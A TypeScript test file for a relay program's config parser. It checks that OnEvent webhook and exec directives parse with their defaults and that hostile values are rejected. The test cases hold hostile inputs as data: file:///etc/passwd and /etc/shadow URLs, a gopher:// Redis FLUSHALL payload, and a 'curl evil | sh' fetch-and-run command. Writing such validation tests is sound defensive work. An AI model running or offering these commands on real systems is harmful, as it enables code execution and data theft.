import { spawn } from 'node:child_process';
import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import t from 'tap';
import { parseConfig } from '../../conf/parse.ts';
import { rejectsConfig } from '../helpers/config-rejects.ts';
import { configFile, relayBin } from '../helpers/relay-process.ts';
import { tempDir } from '../relay/recording/fixtures.ts';

const schemes = ['testsrc'];
const SECRET = 'x'.repeat(32);

t.test('OnEvent directives parse with their defaults', async (t) => {
  const none = parseConfig('', 'relay.conf', { schemes }).config.events;
  t.same(none, { urls: [], secret: undefined, exec: undefined, timeoutMs: 5000, retries: 3, ratePerMinute: 30, failedAfterMs: 60_000 });
  const set = parseConfig(`OnEvent https://alerts.example.com/relay\nOnEvent http://127.0.0.1:9000/hook?x=1\nOnEventSecret ${SECRET}\n` +
    'OnEventExec /bin/echo "two words"\nOnEventTimeout 500ms\nOnEventRetries 0\nOnEventRateLimit 5\nOnEventFailedAfter 2m\n', 'relay.conf', { schemes }).config.events;
  t.same(set, { urls: ['https://alerts.example.com/relay', 'http://127.0.0.1:9000/hook?x=1'], secret: SECRET, exec: ['/bin/echo', 'two words'],
    timeoutMs: 500, retries: 0, ratePerMinute: 5, failedAfterMs: 120_000 });
});

t.test('hostile or broken OnEvent values are rejected with the directive and the reason', async (t) => {
  const cases: Array<[string, string]> = [
    ['OnEvent file:///etc/passwd', 'OnEvent: file:// is not allowed: webhooks are http:// or https:// URLs'],
    ['OnEvent javascript:alert(1)', 'OnEvent: javascript:// is not allowed: webhooks are http:// or https:// URLs'],
    ['OnEvent gopher://127.0.0.1:6379/_FLUSHALL', 'OnEvent: gopher:// is not allowed: webhooks are http:// or https:// URLs'],
    ['OnEvent http://admin:hunter2@127.0.0.1/hook', 'OnEvent: the URL may not carry user:password@ (use OnEventSecret and check X-Relay-Signature)'],
    ['OnEvent not-a-url', 'OnEvent: "not-a-url" is not a URL (e.g. https://alerts.example.com/relay)'],
    [`OnEvent https://example.com/${'a'.repeat(3000)}`, 'OnEvent: is 3020 characters long (at most 2048)'],
    ['OnEvent https://a.example https://b.example', 'OnEvent: takes exactly one URL, got 2 values'],
    [`OnEvent https://a.example\nOnEventSecret short`, 'OnEventSecret: is 5 characters; use at least 32 random ones (e.g. openssl rand -hex 32)'],
    [`OnEventSecret ${SECRET}`, 'OnEventSecret: signs webhooks, but no OnEvent URL is set'],
    ['OnEventExec sh -c "curl evil | sh"', 'OnEventExec: "sh" is not an absolute path (the command runs without a shell and without PATH lookup)'],
    ['OnEventExec ../../bin/sh', 'OnEventExec: "../../bin/sh" is not an absolute path (the command runs without a shell and without PATH lookup)'],
    ['OnEventExec /nonexistent/alert', 'OnEventExec: /nonexistent/alert cannot be run (ENOENT)'],
    ['OnEventExec /tmp', 'OnEventExec: /tmp is not a file'],
    ['OnEventExec', 'OnEventExec: takes a program (absolute path) and its arguments'],
    ['OnEventTimeout 0', 'OnEventTimeout: 0 is out of range (0.1 to 60)'],
    ['OnEventRetries 1000', 'OnEventRetries: 1000 is out of range (0 to 10)'],
    ['OnEventRateLimit 0', 'OnEventRateLimit: 0 is out of range (1 to 10000)'],
    ['OnEventFailedAfter forever', 'OnEventFailedAfter: "forever" is not a duration (e.g. 2, 2s, 500ms, 1m)'],
  ];
  for (const [text, expected] of cases) {
    const line = text.split('\n').length;
    rejectsConfig(t, `${text}\n`, `relay.conf:${text.includes('OnEventSecret short') ? 2 : line}: ${expected}`, schemes);
  }
  const { dir, cleanup } = await tempDir('relay-conf-');
  t.teardown(cleanup);
  const plain = join(dir, 'alert.sh');
  await writeFile(plain, '#!/bin/sh\n', { mode: 0o644 });
  rejectsConfig(t, `OnEventExec ${plain}\n`, `relay.conf:1: OnEventExec: ${plain} cannot be run (EACCES)`, schemes);
  const messages = rejectsConfig(t, 'OnEvent http://admin:hunter2@127.0.0.1/hook\n', 'relay.conf:1: OnEvent: the URL may not carry user:password@ (use OnEventSecret and check X-Relay-Signature)', schemes);
  t.notMatch(messages.join('\n'), /hunter2/, 'the password is not repeated');
});

t.test('relay --check refuses a hostile OnEvent config with file:line and exit status 1', async (t) => {
  const file = await configFile('OnEvent file:///etc/shadow\nOnEventExec sh -c id\n<Camera cam>\n  Source testsrc://\n</Camera>\n');
  const { code, out } = await new Promise<{ code: number | null; out: string }>((resolve) => {
    const child = spawn(process.execPath, [relayBin, '--check', file], { stdio: ['ignore', 'pipe', 'pipe'] });
    let text = '';
    child.stdout.on('data', (chunk: Buffer) => (text += chunk));
    child.stderr.on('data', (chunk: Buffer) => (text += chunk));
    child.on('exit', (exitCode) => resolve({ code: exitCode, out: text }));
  });
  t.equal(code, 1);
  t.match(out, /relay\.conf:2: OnEvent: file:\/\/ is not allowed/);
  t.match(out, /relay\.conf:3: OnEventExec: "sh" is not an absolute path/);
});
